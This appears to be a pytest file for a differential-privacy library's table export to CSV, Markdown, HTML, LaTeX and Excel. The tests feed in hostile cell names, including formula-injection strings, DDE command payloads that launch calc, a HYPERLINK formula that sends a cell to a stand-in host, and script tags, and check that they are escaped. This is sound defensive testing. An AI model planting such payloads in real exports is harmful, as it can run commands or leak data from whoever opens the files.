"""Tables of results: numbers rounded to their errors, in every format and language, with hostile names."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata

import numpy as np
import polars as pl
import pytest
from seen import table_of_page

import dpframe as dpf
from dpframe import noise
from dpframe.errors import no_formula, no_formulas
from dpframe.testing import seeded

NAMES = ["=1+1", "b|c", "<script>", "\\LaTeX_%"]


@pytest.fixture(scope="module")
def wards():
    random = np.random.default_rng(1)
    frame = pl.DataFrame(
        {"ward": NAMES * 500, "age": random.integers(0, 100, 2_000), "cost": random.gamma(2, 900, 2_000)}
    )
    with dpf.Ledger(epsilon=9, checks=False), noise.insecure_bits(1):
        return frame.dp.group_by("ward", keys=NAMES).agg(
            n=dpf.count(),
            age=dpf.mean("age", bounds=(0, 100)),
            cost=dpf.sum("cost", bounds=(0, 9_000)),
            old=dpf.median("age", bounds=(0, 100)),
            epsilon=1,
        )


@pytest.fixture(scope="module")
def ages():
    frame = pl.DataFrame({"age": np.arange(20_000) % 80 + 0.5})
    with dpf.Ledger(epsilon=9), noise.insecure_bits(1):
        return frame.dp.histogram("age", bins=[0, 20, 40, 80], epsilon=0.5, label="Ages <b>")


def cells(result, **options):
    """Return the header and the rows of the CSV."""
    lines = [line for line in result.dp.table("csv", **options).splitlines() if not line.startswith("#")]
    head, *rows = csv.reader(lines)
    return head, rows


def test_cells_are_numbers_rounded_to_the_error(wards):
    head, rows = cells(wards)
    assert head[:5] == ["ward", "n", "n ±", "age", "age ±"]
    assert "old from" in head
    age, error = rows[0][head.index("age")], rows[0][head.index("age ±")]
    assert len(age.split(".")[1]) == len(error.split(".")[1])
    assert len(error.replace(".", "").lstrip("0")) == 2
    released = wards["age"][0]
    assert abs(float(age) - released) <= 0.5 * 10.0 ** -len(age.split(".")[1])
    cost = int(rows[0][head.index("cost")])
    assert cost % 1_000 == 0
    assert "rounded to" in wards.dp.table("csv")


def test_digits(wards):
    assert cells(wards, digits=1)[1][0][3] == f"{wards['age'][0]:.1f}"
    assert float(cells(wards, digits=None)[1][0][3]) == wards["age"][0]
    for digits in ("some", 0.5):
        with pytest.raises(dpf.InvalidType, match="digits"):
            wards.dp.table("csv", digits=digits)


def test_bins_are_words(ages):
    assert [row[0] for row in cells(ages)[1]] == ["0 to 20", "20 to 40", "40 to 80"]
    assert "Ages \\<b\\>" in ages.dp.table("markdown")


def test_numbers_of_rows_and_of_groups_are_whole():
    frame = pl.DataFrame({"person": [1, 2, 2], "ward": ["A", "A", "B"]})
    ledger = dpf.Ledger(epsilon=1, unit="person")
    grid = frame.dp.contributions("ward", keys=["A", "B", "C"], epsilon=1, ledger=ledger)
    rows = cells(grid)[1]
    assert [row[1] for row in rows[:3]] == ["1", "2", "3 to 4"]
    assert list(dict.fromkeys(row[0] for row in rows))[:4] == ["1", "2", "3 to 4", "5 to 8"]


def test_thousands_have_separators_except_in_keys_that_may_be_years():
    frame = pl.DataFrame({"ward": ["A"] + ["B"] * 3, "year": [2020.5] * 4, "person": [1, 2, 3, 4]})
    price = {"epsilon": 1e6, "ledger": dpf.Ledger(epsilon=1e9), "checks": False}  # the errors round to 0.1 at most
    years = pl.concat([frame] * 1_000).dp.histogram("year", bins=[2020, 2021, 2022], **price)
    for digits in ("error", None):
        assert [row[:2] for row in rows_of(years, digits=digits)] == [["2020 to 2021", "4,000"], ["2021 to 2022", "0"]]
    groups = pl.concat([frame] * 1_000).dp.group_by("ward", keys=["A", "B"])
    both = groups.agg(n=dpf.count(), years=dpf.sum("year", bounds=(0, 9_000)), **price)
    assert rows_of(dpf.compare(both, "B", "A"))[0][:2] == ["n", "2,000"]
    grid = frame.dp.contributions(epsilon=1, ledger=dpf.Ledger(epsilon=1, unit="person"))
    assert "513 to 1,024" in [row[0] for row in rows_of(grid)]


def rows_of(result, **options):
    """Return the cells of the rows of a Markdown table."""
    lines = [line for line in result.dp.table("markdown", **options).splitlines() if line.startswith("|")]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in lines[2:]]


def test_each_kind_of_interval_is_told_where_there_is_one():
    ask = pl.DataFrame({"age": [31, 45]}).dp.agg
    ledger, ends = dpf.Ledger(epsilon=9), "from, to: 95% confidence interval (noise)"
    halves = "±: 95% margin of error (noise)"
    middle, count = dpf.median("age", bounds=(0, 99)), dpf.count()
    for statistics, said in (([middle], (True, False)), ([count], (False, True)), ([middle, count], (True, True))):
        text = ask(*statistics, epsilon=1, ledger=ledger).dp.table("markdown")
        assert (ends in text, halves in text) == said


def test_dates_missing_keys_and_whole_keys():
    frame = pl.DataFrame({"day": pl.date_range(pl.date(2026, 1, 1), pl.date(2026, 1, 31), eager=True)})
    frame = frame.with_columns(year=pl.lit(2026), kind=pl.lit(None, dtype=pl.String))
    with dpf.Ledger(epsilon=9):
        months = frame.dp.group_by("day", keys=dpf.dates("2026-01-01", "2026-02-28", every="1mo")).count(epsilon=1)
        years = frame.dp.group_by("year", "kind", keys={"year": [2026], "kind": [None]}).count(epsilon=1)
    assert cells(months)[1][0][0] == "2026-01-01"
    assert cells(years)[1][0][:2] == ["2026", "missing"]
    assert "| 2026 | missing |" in years.dp.table("markdown")  # no thousands separator in a year


def test_labels(wards):
    text = wards.dp.table("markdown", labels={"columns": {"ward": "Where", "n": "People"}})
    assert "| Where | People | People ± |" in text
    with pytest.raises(dpf.InvalidArgument, match="Did you mean 'ward'"):
        wards.dp.table("markdown", labels={"columns": {"wards": "Where"}})
    with pytest.raises(dpf.InvalidType, match="labels must be a dict"):
        wards.dp.table("markdown", labels=["Where"])


def test_languages(wards):
    pytest.importorskip("babel")
    plain, german = wards.dp.table("markdown"), wards.dp.table("markdown", locale="de")
    cost = f"{round(wards['cost'][0], -4):,.0f}"
    assert cost in plain
    assert cost.replace(",", ".") in german
    assert cells(wards, locale="de") == cells(wards)  # numbers in CSV files do not depend on the language
    for locale, error in (("xx_yy", dpf.InvalidArgument), (7, dpf.InvalidType)):
        with pytest.raises(error, match="locale must be"):
            wards.dp.table("markdown", locale=locale)


def test_numbers_in_notes_are_in_the_language_of_the_table():
    pytest.importorskip("babel")
    frame = pl.DataFrame({"g": ["A", "B"] * 2000, "x": [5e5, 2e6] * 2000})
    statistics = {"m": dpf.quantile("x", q=0.9, bounds=(0, 1_234_567)), "s": dpf.sum("x", bounds=(0, 1_234_567))}
    with dpf.Ledger(epsilon=99), seeded(2):
        found = frame.dp.group_by("g", keys=list("ABCDEFGH")).agg(**statistics, epsilon=9, checks=0.5)
    tables = {locale: found.dp.table("markdown", locale=locale) for locale in (None, "de")}
    notes = {
        locale: [line for line in table.splitlines() if line.startswith("- ")][:-1] for locale, table in tables.items()
    }
    assert any(",000" in note for note in notes[None])
    assert any("above 1,234,567" in note for note in notes[None])
    assert any("49.9% to" in note for note in notes[None])
    swapped = {",": ".", ".": ","}
    assert notes["de"] == [re.sub(r"(?<=\d)[.,](?=\d)", lambda mark: swapped[mark[0]], note) for note in notes[None]]


def test_formats_are_checked(wards):
    with pytest.raises(dpf.InvalidArgument, match="format must be one of"):
        wards.dp.table("pdf")


def test_csv_is_read_by_others(wards):
    text = wards.dp.table("csv")
    frame = pl.read_csv(io.StringIO(text), comment_prefix="#")
    assert frame.height == 4
    assert frame.schema["age"] == pl.Float64
    assert "; differentially private: epsilon 1" in text
    assert "# number of rows as n, mean of age as age, sum of cost as cost and median of age as old by ward" in text
    pandas = pytest.importorskip("pandas")
    assert list(pandas.read_csv(io.StringIO(text), comment="#").columns) == frame.columns


def test_110_a_spreadsheet_computes_nothing(wards):
    head, rows = cells(wards, labels={"columns": {"ward": "@where"}})
    assert head[0] == "'@where"
    assert rows[0][0] == "'=1+1"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff20"])
def test_179_no_part_of_a_line_becomes_a_formula(sign):
    """A spreadsheet splits a line at commas or, in much of Europe, at semicolons, and ignores blanks."""
    formula = f"{sign}1+1"
    column, keys = f"a,{formula}", [f" {formula}", f"x;{formula}", f"\u00a0{formula}"]
    hostile = pl.DataFrame({column: keys * 3})
    with dpf.Ledger(epsilon=1, dataset=f'd",{formula}'):
        found = hostile.dp.group_by(column, keys=keys).agg(
            **{f"n;{formula}": dpf.count()}, epsilon=1, label=f"l,{formula}"
        )
    text = found.dp.table("csv")
    for mark in ",;":
        for cell in (cell for line in csv.reader(text.splitlines(), delimiter=mark) for cell in line):
            plain = cell.strip().strip('"').lstrip()
            assert not plain.startswith(sign) or re.fullmatch(r"-?[0-9.]+", plain), cell


@pytest.mark.parametrize(
    "label", ["a;+1,5+cmd|' /C calc'!A0;b", 'a;-1,0*HYPERLINK("http://x/"&A1);b', "a;+1)+cmd|' /C calc'!A0"]
)
def test_179_a_number_that_goes_on_at_its_comma_is_no_number(label):
    """Where semicolons separate cells, a comma is a decimal sign, and the text after it stays in the same cell."""
    assert no_formula(label) == no_formulas(label) == label.replace(";", ";'", 1)
    for number in ("a;+1,5;b", "a;-1.5", "[1;-2]", "(0;-1,5)"):
        assert no_formula(number) == no_formulas(number) == number
    assert no_formulas("-3, +2.5, (-1, -2)") == "-3, +2.5, (-1, -2)"
    found = (
        pl.DataFrame({"k": [label, "b"] * 9})
        .dp.group_by("k", keys=[label, "b"])
        .count(epsilon=1, ledger=dpf.Ledger(epsilon=1))
    )
    for cell in (cell for line in found.dp.table("csv").splitlines() for cell in line.split(";")):
        assert not cell.lstrip(' "').startswith(("+", "-"))


def test_110_names_are_escaped(wards):
    markdown, html = wards.dp.table("markdown"), wards.dp.table("html")
    assert "b\\|c" in markdown
    assert "\\<script\\>" in markdown
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    hostile = pl.DataFrame({"a": ["x\u202ey\x1b[31m"] * 9})
    key = hostile["a"][0]
    with dpf.Ledger(epsilon=1):
        found = hostile.dp.group_by("a", keys=[key]).count(epsilon=1)
    for kind in ("markdown", "html", "csv"):
        text = found.dp.table(kind)
        assert not {unicodedata.category(letter) for letter in text if letter != "\n"} & {"Cc", "Cf"}


def test_latex_and_notebooks(wards):
    pytest.importorskip("great_tables")
    latex = wards.dp.table("latex")
    assert "\\textbackslash{}LaTeX\\_\\%" in latex
    assert "\\begin{tabular" in latex
    page = wards.dp.table().as_raw_html()
    assert "prefers-color-scheme: dark" in page
    assert "<script>" not in page
    assert "±" in page


def test_a_workbook_holds_numbers_and_text(wards, tmp_path):
    pytest.importorskip("xlsxwriter")
    openpyxl = pytest.importorskip("openpyxl")
    (tmp_path / "wards.xlsx").write_bytes(wards.dp.table("excel", labels={"columns": {"ward": "=2+2"}}))
    book = openpyxl.load_workbook(tmp_path / "wards.xlsx")
    assert book.sheetnames == ["Result", "Notes"]
    sheet = book.active
    rows = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert rows[3][0] == ("=2+2", "s")
    assert rows[4][0] == ("=1+1", "s")
    assert rows[4][1][1] == "n"
    assert rows[4][1][0] == wards["n"][0]
    assert "differentially private" in rows[1][0][0]
    notes = [cell.value for cell in book["Notes"]["A"]]
    assert notes[0] == rows[0][0][0]
    assert any("record" in str(note) for note in notes)


def test_a_workbook_has_a_sheet_for_each_release(ages, tmp_path):
    pytest.importorskip("xlsxwriter")
    openpyxl = pytest.importorskip("openpyxl")
    joined = dpf.concat([ages, ages, ages], names=["a/b:[c]" * 9, "A B  C" + "x" * 40, "Notes"], column="year")
    (tmp_path / "years.xlsx").write_bytes(joined.dp.table("excel"))
    book = openpyxl.load_workbook(tmp_path / "years.xlsx")
    assert len(book.sheetnames) == len({name.lower() for name in book.sheetnames}) == 4
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert book.sheetnames[-1] == "Notes"
    for sheet in book.sheetnames[:3]:
        assert [cell.value for cell in book[sheet]["B"]][4:] == ages["count"].to_list()
    with pytest.raises(dpf.InvalidArgument, match="table must be asked of one release"):
        joined.dp.table("csv")


def test_a_two_way_table_says_its_errors():
    frame = pl.DataFrame({"ward": ["A", "B"] * 100, "sex": ["m"] * 150 + ["f"] * 50})
    keys = {"ward": ["A", "B"], "sex": ["m", "f"]}
    with dpf.Ledger(epsilon=9):
        found = frame.dp.group_by("ward", "sex", keys=keys).count(cube=True, epsilon=9)
    head, rows = cells(found)
    assert head == ["ward", "sex m", "sex f", "all"]
    assert [row[0] for row in rows] == ["A", "B", "all"]
    assert all(float(cell) >= 0 for row in rows for cell in row[1:])
    assert "95% margin of error (noise)" in found.dp.table("markdown")


def test_a_changed_frame_has_no_table(ages):
    changed = dpf.concat([ages]).dp.parts[0].insert_column(1, pl.Series("names", ["a", "b", "c"]))
    with pytest.raises(dpf.InvalidArgument, match="covered by no release"):
        changed.dp.table("csv")


def test_the_record_is_json_still(ages):
    assert json.loads(json.dumps(ages.dp.round().dp.provenance))["rounded"]["steps"] == {"count": 1.0}


def test_a_two_way_table_of_sorted_rows_is_that_of_the_released_frame(tmp_path):
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame({"ward": ["A", "B", "C"] * 200, "sex": ["f", "m"] * 300})
    keys = {"ward": ["A", "B", "C"], "sex": ["f", "m"]}
    with dpf.Ledger(epsilon=9):
        found = frame.dp.group_by("ward", "sex", keys=keys).count(cube=True, epsilon=9)
    moved = found.iloc[::-1]  # this keeps the record
    assert moved.dp.table("markdown") == found.dp.table("markdown")
    assert table_of_page(moved, tmp_path) == table_of_page(found, tmp_path)


@pytest.mark.parametrize("locale", [None, "de", "fr"])
def test_other_programs_read_keys_that_are_numbers_as_these(locale):
    if locale is not None:
        pytest.importorskip("babel")
    keys = [1000.0, 0.5, 12345678901.25, 2e6]
    frame = pl.DataFrame({"g": keys * 5})
    counts = frame.dp.group_by("g", keys=keys).count(epsilon=1.0, ledger=dpf.Ledger(epsilon=2.0))
    text = counts.dp.table("csv", locale=locale)
    assert pl.read_csv(io.StringIO(text), comment_prefix="#")["g"].to_list() == keys
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(io.BytesIO(counts.dp.table("excel", locale=locale))).active
    assert [row[0].value for row in sheet.iter_rows(min_row=5)] == keys
    shown = {None: "12,345,678,901.25", "de": "12.345.678.901,25", "fr": "12\u202f345\u202f678\u202f901,25"}[locale]
    assert f"| {shown} |" in counts.dp.table("markdown", locale=locale)


def test_a_key_that_is_called_missing_is_not_what_is_missing():
    frame = pl.DataFrame({"g": ["missing", None] * 5})
    counts = frame.dp.group_by("g", keys=["missing", None]).count(epsilon=1.0, ledger=dpf.Ledger(epsilon=2.0))
    assert [line.split(",")[0] for line in counts.dp.table("csv").splitlines()[-2:]] == ['"missing"', '"(missing)"']
